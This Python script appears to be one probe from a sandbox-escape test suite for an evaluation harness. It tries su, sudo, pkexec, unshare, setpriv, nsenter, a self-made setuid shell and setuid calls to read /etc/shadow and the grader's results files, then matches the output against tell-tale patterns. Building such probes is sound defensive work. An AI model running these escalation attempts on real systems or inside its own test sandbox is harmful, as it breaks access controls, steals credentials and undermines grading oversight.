"""Starts programs: by shell, by spawn, as root through set-uid programs of the system, through one that it makes itself, and
through interpreters that give rights; to read with them what it may not read itself."""
# shows: raised Ran: \[\] .*(PermissionError|su:[1-9])
# tried: process
# stopped by: uid, landlock

# %% last
import os
import re
import shutil
import subprocess

TELLING = r"uid=0|token-2f9c41d[7]|ada\.2f9c41d[7]|root:[^:]*:\d{4,}:|check_draw[n]"
READ = f"id; cat {STAGE}/submission_metadata.json {STAGE}/results/results.json /etc/shadow"
COMMANDS = {
    "sh": ["/bin/sh", "-c", READ],
    "su": ["/usr/bin/su", "root", "-c", READ],
    "sudo": ["sudo", "-n", "sh", "-c", READ],
    "pkexec": ["pkexec", "sh", "-c", READ],
    "newgrp": ["/usr/bin/newgrp", "shadow"],
    "mount": ["/usr/bin/mount", "--bind", STAGE, os.getcwd()],
    "passwd": ["/usr/bin/passwd", "--status", "root"],
    "unshare": ["unshare", "--user", "--map-root-user", "sh", "-c", READ],
    "mine": ["./mine", "-p", "-c", READ],
    "setpriv": ["setpriv", "--reuid", "0", "--clear-groups", "sh", "-c", READ],
    "nsenter": ["nsenter", "--target", "1", "--all", "id"],
}
out, came = "", []
for name, command in COMMANDS.items():
    try:
        if name == "mine":
            shutil.copyfile("/bin/sh", "mine")
            os.chmod("mine", 0o6777)
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=3, start_new_session=True)
        out += done.stdout
        came.append(f"{name}:{done.returncode}")
    except (OSError, subprocess.SubprocessError) as error:
        came.append(type(error).__name__)
for way in (
    lambda: os.popen(READ).read(),
    lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "true"], {}),
    lambda: os.setuid(0),
    lambda: os.setresgid(0, 0, 0),
    lambda: os.setgroups([0]),
    lambda: os.seteuid(0),
):
    try:
        out += str(way())
    except OSError as error:
        came.append(type(error).__name__)
say(f"{sorted(set(re.findall(TELLING, out)))} {' '.join(dict.fromkeys(came))}")
